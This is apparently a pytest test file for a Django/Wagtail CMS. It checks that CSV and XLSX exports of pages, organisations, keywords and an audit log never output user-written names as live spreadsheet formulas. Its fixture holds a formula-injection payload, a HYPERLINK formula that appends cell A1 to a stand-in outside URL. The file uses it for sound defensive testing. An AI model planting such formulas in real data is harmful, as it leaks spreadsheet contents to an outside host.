"""What the CMS gives as a file for a spreadsheet does nothing in it."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from contacten.models import Organisatie
from regioprogramma.toegang.models import Auditregel, Gebeurtenis
from tests import factories

pytestmark = pytest.mark.django_db
FORMULE = '=HYPERLINK("https://elders.example/?"&A1;"Klik")'
SCHERMEN = ["organisaties:index", "trefwoorden:index", "wagtailadmin_reports:site_history"]


def bestand(client, scherm, vorm):
    """Return the file that a screen gives."""
    antwoord = client.get(f"{reverse(scherm)}?export={vorm}")
    assert antwoord.status_code == 200
    return b"".join(antwoord.streaming_content) if antwoord.streaming else antwoord.content


@pytest.fixture
def genoemd(beheerder):
    """A page, an organisation and a keyword with a formula for a name; whoever writes chose it."""
    log(factories.TekstPaginaFactory(title=FORMULE), "wagtail.create")
    Organisatie.objects.create(naam=FORMULE, soort="overig")
    factories.TrefwoordFactory(naam=FORMULE, slug="klik")
    return beheerder


@pytest.mark.parametrize("scherm", SCHERMEN)
def test_no_text_in_a_csv_is_a_formula(genoemd, scherm):
    rijen = csv.reader(io.StringIO(bestand(genoemd, scherm, "csv").decode()))
    cellen = [cel for rij in rijen for cel in rij if FORMULE in cel]
    assert cellen
    assert not [cel for cel in cellen if cel.startswith("=")]


@pytest.mark.parametrize("scherm", SCHERMEN)
def test_a_text_in_an_xlsx_stays_what_it_is(genoemd, scherm):
    blad = load_workbook(io.BytesIO(bestand(genoemd, scherm, "xlsx"))).active
    soorten = {cel.data_type for rij in blad for cel in rij if cel.value == FORMULE}
    assert soorten == {"s"}


def test_a_character_that_an_xlsx_cannot_hold_is_left_out(beheerder):
    Auditregel.objects.create(soort=Gebeurtenis.ROL, wie="noor", wat="Re\x0bdactie: gegeven")
    blad = load_workbook(io.BytesIO(bestand(beheerder, "toegang_auditlog", "xlsx"))).active
    assert "Redactie: gegeven" in {cel.value for rij in blad for cel in rij}
